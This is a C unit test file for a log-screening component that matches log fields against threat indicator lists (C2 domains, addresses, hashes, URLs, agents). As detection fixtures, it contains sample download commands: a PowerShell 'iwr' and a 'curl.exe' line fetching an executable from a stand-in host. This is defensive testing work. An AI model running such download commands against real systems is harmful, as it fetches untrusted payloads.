/* The screen of log entries: which values are hits in which fields, what is no hit however much it
 * looks like one, and that what it says is what asking each value by hand says. */
#include "harness.h"
#include "prop.h"

#include "base/time.h"
#include "detect/intel/screen.h"

#include <stdio.h>
#include <string.h>
#include <time.h>

#define HEAD   "canhgac-list 1\nname thu\nlabel c2\nsource x\n\n"
#define SHA256 "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
#define MD5    "d41d8cd98f00b204e9800998ecf8427e"

static const char listed[] = HEAD "domain evil.example\naddress 203.0.113.7\n"
                                  "address 198.51.100.0/24\naddress 2001:db8::/32\n"
                                  "hash " SHA256 "\nhash " MD5 "\n"
                                  "url files.example/a/b.exe\nurl 192.0.2.9:8080/mozi.m\n"
                                  "agent EvilBot/1.0\nemail ke.xau@mail.example\nend 10\n";

static struct indicators *load(const char *text)
{
    struct indicators *indicators = NULL;
    struct diag diag = {{0}};

    assert_int_equal(indicators_new(indicators_popular(), &indicators, &diag), 0);
    if (indicators_add_file(indicators, str_from(text), &diag) < 0) {
        fail_msg("%s", diag.text);
    }
    return indicators;
}

static struct screen *make(const struct indicators *indicators)
{
    struct screen *screen = NULL;

    assert_int_equal(screen_new(indicators, &screen), 0);
    return screen;
}

/* The hits of one field, as "kind:entry=found " each. */
static const char *hits_of(struct screen *screen, const char *name, const char *value)
{
    static char said[1024];
    struct entry_field field = {.name = str_from(name), .value = str_from(value)};
    struct entry entry = {.fields = &field, .count = 1};
    const struct screen_hit *hits;
    size_t count;
    int len = 0;

    said[0] = '\0';
    assert_int_equal(screen_entry(screen, &entry, &hits, &count), 0);
    for (size_t i = 0; i < count; i++) {
        assert_int_equal(hits[i].field, 0);
        len += snprintf(said + len, sizeof(said) - (size_t)len, "%s:%.*s=%.*s ",
                        feed_kind_name(hits[i].hit.kind), STR_ARG(hits[i].hit.value),
                        STR_ARG(hits[i].found));
    }
    return said;
}

static void test_values(void **state)
{
    static const struct {
        const char *name;
        const char *value;
        const char *hits;
    } rows[] = {
        {"DestinationIp", "203.0.113.7", "address:203.0.113.7=203.0.113.7 "},
        {"client", "203.0.113.7:51515", "address:203.0.113.7=203.0.113.7:51515 "},
        {"src_ip", "198.51.100.200", "address:198.51.100.0/24=198.51.100.200 "},
        {"src_ip", "2001:DB8:1::7", "address:2001:db8::/32=2001:DB8:1::7 "},
        {"src_ip", "[2001:db8::7]:443", "address:2001:db8::/32=[2001:db8::7]:443 "},
        {"src_ip", "::ffff:203.0.113.7", "address:203.0.113.7=::ffff:203.0.113.7 "},
        {"src_ip", "203.0.113.70", ""},
        {"FileVersion", "203.0.113.7", ""},
        {"version", "203.0.113.7.1", ""},
        {"QueryName", "Evil.Example", "domain:evil.example=Evil.Example "},
        {"query", "a.b.evil.example.", "domain:evil.example=a.b.evil.example. "},
        {"host", "notevil.example", ""},
        {"host", "evil.example.vn", ""},
        {"Hashes", "SHA1=00,MD5=D41D8CD98F00B204E9800998ECF8427E,IMPHASH=" MD5,
         "hash:" MD5 "=D41D8CD98F00B204E9800998ECF8427E hash:" MD5 "=" MD5 " "},
        {"sha256", SHA256, "hash:" SHA256 "=" SHA256 " "},
        {"Hashes", "SHA256=" SHA256, "hash:" SHA256 "=" SHA256 " "},
        {"url", "http://files.example/a/b.exe",
         "url:files.example/a/b.exe=http://files.example/a/b.exe "},
        {"url", "https://u@FILES.example:443/a/b.exe?x=1#y",
         "url:files.example/a/b.exe=https://u@FILES.example:443/a/b.exe?x=1#y "},
        {"url", "http://files.example/a/c.exe", ""},
        {"url", "http://192.0.2.9:8080/mozi.m",
         "url:192.0.2.9:8080/mozi.m=http://192.0.2.9:8080/mozi.m "},
        {"url", "http://www.evil.example/x", "domain:evil.example=http://www.evil.example/x "},
        {"url", "http://203.0.113.7:8080/", "address:203.0.113.7=http://203.0.113.7:8080/ "},
        {"url", "http://[2001:db8::7]/x", "address:2001:db8::/32=http://[2001:db8::7]/x "},
        {"CommandLine",
         "powershell -c \"iwr 'http://files.example/a/b.exe' -o x\" ; y http://evil.example",
         "url:files.example/a/b.exe=http://files.example/a/b.exe "
         "domain:evil.example=http://evil.example "},
        {"cs-user-agent", "EvilBot/1.0", "agent:EvilBot/1.0=EvilBot/1.0 "},
        {"userAgent", "EvilBot/1.0", "agent:EvilBot/1.0=EvilBot/1.0 "},
        {"comment", "EvilBot/1.0", ""},
        {"from", "Ke.Xau@mail.example", "email:ke.xau@mail.example=Ke.Xau@mail.example "},
        {"from", "ai.do@mail.example", ""},
        {"TargetFilename", "evil.example", ""},
        {"path", "C:\\evil.example\\203.0.113.7", ""},
        {"x", "....", ""},
        {"x", "[:::", ""},
        {"x", "abcd", ""},
    };
    struct indicators *indicators = load(listed);
    struct screen *screen = make(indicators);

    (void)state;
    for (size_t i = 0; i < 2 * sizeof(rows) / sizeof(rows[0]); i++) { /* a second time alike */
        const char *name = rows[i / 2].name;

        assert_string_equal(hits_of(screen, name, rows[i / 2].value), rows[i / 2].hits);
    }
    screen_free(screen);
    indicators_free(indicators);
}

/* A web log names host, path and query apart; JSON escapes what it likes. */
static void test_parts(void **state)
{
    struct entry_field web[] = {
        {.name = STR("cs-host"), .value = STR("Files.example")},
        {.name = STR("cs-uri-stem"), .value = STR("/a/b.exe")},
        {.name = STR("cs-uri-query"), .value = STR("x=1")},
        {.name = STR("c-ip"), .value = STR("203.0.113.7")},
        {.name = STR("referer"),
         .value = STR("http:\\/\\/files.example\\/a\\/b.exe"),
         .is_escaped = true},
        {.name = STR("sc-bytes"), .value = STR("203.0.113.7"), .type = ENTRY_TYPE_NUMBER},
    };
    struct entry entry = {.fields = web, .count = sizeof(web) / sizeof(web[0])};
    struct indicators *indicators = load(listed);
    struct screen *screen = make(indicators);
    const struct screen_hit *hits;
    size_t count = 0;

    (void)state;
    assert_int_equal(screen_entry(screen, &entry, &hits, &count), 0);
    assert_int_equal(count, 3);
    assert_int_equal(hits[0].field, 1);
    assert_str(hits[0].found, "Files.example/a/b.exe?x=1");
    assert_int_equal(hits[1].field, 3);
    assert_int_equal(hits[2].field, 4);
    assert_str(hits[2].hit.list->label, "c2");
    screen_free(screen);
    indicators_free(indicators);
}

/* As many request paths as an entry of 1 MiB may have: what stands beside them is looked for once,
 * and what they come to with a long host takes neither all memory nor all day. */
static void test_paths(void **state)
{
    static struct entry_field fields[130001];
    static char host[3000];
    struct entry entry = {.fields = fields, .count = 130001};
    struct indicators *indicators = load(listed);
    struct screen *screen = make(indicators);
    const struct screen_hit *hits;
    size_t count = 0;
    clock_t before = clock();

    (void)state;
    memset(host, 'a', sizeof(host));
    for (size_t i = 0; i + 1 < entry.count; i++) {
        fields[i] = (struct entry_field){.name = STR("cs-uri"), .value = STR("/abc")};
    }
    fields[entry.count - 1] = (struct entry_field){.name = STR("x"), .value = STR("")};
    assert_int_equal(screen_entry(screen, &entry, &hits, &count), 0);
    fields[entry.count - 1].name = STR("cs-host");
    fields[entry.count - 1].value = str_of(host, sizeof(host));
    assert_int_equal(screen_entry(screen, &entry, &hits, &count), 0);
    assert_int_equal(count, 0);
    fields[0].value = STR("/a/b.exe");
    fields[entry.count - 1].value = STR("files.example");
    assert_int_equal(screen_entry(screen, &entry, &hits, &count), 0);
    assert_int_equal(count, 1);
    assert_str(hits[0].found, "files.example/a/b.exe");
    assert_true(clock() - before < 2 * CLOCKS_PER_SEC);
    screen_free(screen);
    indicators_free(indicators);
}

/* Values with escapes, more than any arena has room for at once. */
static void test_escaped(void **state)
{
    static struct entry_field fields[300000];
    struct entry entry = {.fields = fields, .count = 300000};
    struct indicators *indicators = load(listed);
    struct screen *screen = make(indicators);
    const struct screen_hit *hits;
    size_t count = 0;

    (void)state;
    for (size_t i = 0; i < entry.count; i++) {
        fields[i] = (struct entry_field){.name = STR("Hashes"),
                                         .value = STR("a\\u002db.\\u002d.some.name.example.com"),
                                         .is_escaped = true};
    }
    fields[entry.count - 1].value = STR("\\u0065vil.example");
    assert_int_equal(screen_entry(screen, &entry, &hits, &count), 0);
    assert_int_equal(count, 1);
    assert_str(hits[0].found, "evil.example");
    screen_free(screen);
    indicators_free(indicators);
}

static void test_expired(void **state)
{
    struct indicators *indicators =
        load(HEAD "address 203.0.113.7\t2026-03-01T00:00:00.000Z\naddress 203.0.113.8\nend 2\n");
    struct screen *screen = make(indicators);
    struct entry_field fields[] = {{.name = STR("src_ip"), .value = STR("203.0.113.7")},
                                   {.name = STR("dst_ip"), .value = STR("203.0.113.8")}};
    struct entry entry = {.fields = fields, .count = 2};
    const struct screen_hit *hits;
    size_t count;

    (void)state;
    assert_int_equal(time_parse(STR("2026-02-28T23:59:59Z"), &entry.time), 0);
    assert_int_equal(screen_entry(screen, &entry, &hits, &count), 0);
    assert_int_equal(count, 2);
    assert_int_equal(time_parse(STR("2026-03-01T00:00:00Z"), &entry.time), 0);
    assert_int_equal(screen_entry(screen, &entry, &hits, &count), 0);
    assert_int_equal(count, 1);
    assert_int_equal(hits[0].field, 1);
    entry.time = 0; /* nobody knows when */
    assert_int_equal(screen_entry(screen, &entry, &hits, &count), 0);
    assert_int_equal(count, 2);
    screen_free(screen);
    indicators_free(indicators);
}

static size_t count_at(struct screen *screen, const char *value, const char *when)
{
    struct entry_field field = {.name = STR("x"), .value = str_from(value)};
    struct entry entry = {.fields = &field, .count = 1};
    const struct screen_hit *hits;
    size_t count;

    assert_int_equal(time_parse(str_from(when), &entry.time), 0);
    assert_int_equal(screen_entry(screen, &entry, &hits, &count), 0);
    return count;
}

/* A log's own time may be anything: one of the future silences nothing that still counts, and one
 * that was quiet after an end is a hit before it. */
static void test_forged_time(void **state)
{
    struct indicators *indicators =
        load(HEAD "address 203.0.113.7\t2027-03-01T00:00:00.000Z\nend 1\n");
    struct screen *screen = make(indicators);
    int64_t now = 0;

    (void)state;
    assert_int_equal(time_parse(STR("2027-02-01T12:30:00Z"), &now), 0);
    indicators_set_time(indicators, now);
    assert_int_equal(count_at(screen, "203.0.113.7", "2099-01-01T00:00:00Z"), 1);
    assert_int_equal(count_at(screen, "203.0.113.7", "2001-01-01T00:00:00Z"), 1);
    assert_int_equal(time_parse(STR("2027-03-02T00:00:00Z"), &now), 0);
    indicators_set_time(indicators, now);
    assert_int_equal(count_at(screen, "203.0.113.7", "2099-01-01T00:00:00Z"), 0);
    assert_int_equal(count_at(screen, "203.0.113.7", "2027-03-01T23:00:00Z"), 0);
    assert_int_equal(count_at(screen, "203.0.113.7", "2027-02-28T23:59:59Z"), 1);
    screen_free(screen);
    indicators_free(indicators);
}

/* What has ended hides nothing that is wider and goes on. */
static void test_wider(void **state)
{
    struct indicators *indicators = load(
        HEAD "address 203.0.113.7\t2026-03-01T00:00:00.000Z\naddress 203.0.113.0/24\n"
             "domain old.evil.example\t2026-03-01T00:00:00.000Z\ndomain evil.example\nend 4\n");
    struct screen *screen = make(indicators);

    (void)state;
    assert_int_equal(count_at(screen, "203.0.113.7", "2026-04-01T00:00:00Z"), 1);
    assert_int_equal(count_at(screen, "old.evil.example", "2026-04-01T00:00:00Z"), 1);
    screen_free(screen);
    indicators_free(indicators);
}

/* An entry full of hits shows the first and counts them all; a huge one takes bounded time. */
static void test_many(void **state)
{
    static struct entry_field fields[10000];
    static char text[1 << 20];
    struct entry entry = {.fields = fields, .count = 10000};
    struct indicators *indicators = load(listed);
    struct screen *screen = make(indicators);
    struct screen_stats stats;
    const struct screen_hit *hits;
    size_t count = 0;

    (void)state;
    for (size_t i = 0; i < 10000; i++) {
        fields[i] = (struct entry_field){.name = STR("ip"), .value = STR("203.0.113.7")};
    }
    assert_int_equal(screen_entry(screen, &entry, &hits, &count), 0);
    assert_int_equal(count, SCREEN_HITS_MAX);
    screen_stats(screen, &stats);
    assert_int_equal(stats.hits, 10000);
    for (size_t i = 0; i + 3 <= sizeof(text); i += 3) {
        memcpy(text + i, "://", 3);
    }
    fields[0] =
        (struct entry_field){.name = STR("CommandLine"), .value = str_of(text, sizeof(text))};
    entry.count = 1;
    assert_int_equal(screen_entry(screen, &entry, &hits, &count), 0);
    assert_int_equal(count, 0);
    screen_free(screen);
    indicators_free(indicators);
}

/* Whatever kinds lists have, hits of the others do not come. */
static void test_one_kind(void **state)
{
    static const struct {
        const char *list;
        const char *hits;
    } rows[] = {
        {HEAD "domain files.example\nend 1\n",
         "domain:files.example=http://files.example/a/b.exe "},
        {HEAD "url files.example/a/b.exe\nend 1\n",
         "url:files.example/a/b.exe=http://files.example/a/b.exe "},
        {HEAD "hash " MD5 "\nend 1\n", ""},
        {HEAD "address 203.0.113.7\nend 1\n", ""},
        {HEAD "end 0\n", ""},
    };

    (void)state;
    for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
        struct indicators *indicators = load(rows[i].list);
        struct screen *screen = make(indicators);

        assert_string_equal(hits_of(screen, "url", "http://files.example/a/b.exe"), rows[i].hits);
        screen_free(screen);
        indicators_free(indicators);
    }
}

/* A network is a hit for exactly the addresses whose first bits are its own. */
static const char *networks_hold(struct prop *prop)
{
    uint32_t base = (uint32_t)prop_below(prop, 0);
    unsigned bits = 8 + (unsigned)prop_below(prop, 25);
    uint32_t asked = base ^ (uint32_t)(prop_bool(prop) ? 1ULL << prop_below(prop, 32) : 0);
    uint32_t mask = (uint32_t)(0xffffffffULL << (32 - bits));
    bool is_in = (base & mask) == (asked & mask);
    char list[256];
    char value[32];
    struct indicators *indicators;
    struct screen *screen;
    bool is_hit;
    int len;

    len = snprintf(list, sizeof(list), HEAD "address %u.%u.%u.%u", (base & mask) >> 24,
                   (base & mask) >> 16 & 255, (base & mask) >> 8 & 255, base & mask & 255);
    (void)snprintf(list + len, sizeof(list) - (size_t)len, bits < 32 ? "/%u\nend 1\n" : "\nend 1\n",
                   bits);
    (void)snprintf(value, sizeof(value), "%u.%u.%u.%u", asked >> 24, asked >> 16 & 255,
                   asked >> 8 & 255, asked & 255);
    indicators = load(list);
    screen = make(indicators);
    is_hit = hits_of(screen, "ip", value)[0] != '\0';
    screen_free(screen);
    indicators_free(indicators);
    return is_hit == is_in ? NULL : "another answer than the bits give";
}

static void test_networks(void **state)
{
    (void)state;
    prop_check("networks", networks_hold, 300);
}

static int screen_once(void *context)
{
    struct indicators *indicators = context;
    struct entry_field field = {.name = STR("ip"), .value = STR("203.0.113.7")};
    struct entry entry = {.fields = &field, .count = 1};
    struct screen *screen = NULL;
    const struct screen_hit *hits;
    size_t count;
    int r = screen_new(indicators, &screen);

    if (r == 0) {
        r = screen_entry(screen, &entry, &hits, &count);
    }
    screen_free(screen);
    return r;
}

static void test_no_memory(void **state)
{
    struct indicators *indicators = load(listed);

    (void)state;
    assert_survives_no_memory(screen_once, indicators);
    indicators_free(indicators);
}

/* A command line of a JSON log begins with a path, and its backslashes are escaped. */
static void test_command_line(void **state)
{
    struct entry_field field = {
        .name = STR("CommandLine"),
        .value = STR("C:\\\\Windows\\\\curl.exe http://files.example/a/b.exe -o D:\\\\x"),
        .is_escaped = true};
    struct entry entry = {.fields = &field, .count = 1};
    struct indicators *indicators = load(listed);
    struct screen *screen = make(indicators);
    const struct screen_hit *hits;
    size_t count = 0;

    (void)state;
    assert_int_equal(screen_entry(screen, &entry, &hits, &count), 0);
    assert_int_equal(count, 1);
    assert_true(str_is(hits[0].found, STR("http://files.example/a/b.exe")));
    screen_free(screen);
    indicators_free(indicators);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_values),       cmocka_unit_test(test_parts),
        cmocka_unit_test(test_command_line), cmocka_unit_test(test_expired),
        cmocka_unit_test(test_many),         cmocka_unit_test(test_one_kind),
        cmocka_unit_test(test_networks),     cmocka_unit_test(test_no_memory),
        cmocka_unit_test(test_paths),        cmocka_unit_test(test_escaped),
        cmocka_unit_test(test_forged_time),  cmocka_unit_test(test_wider),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
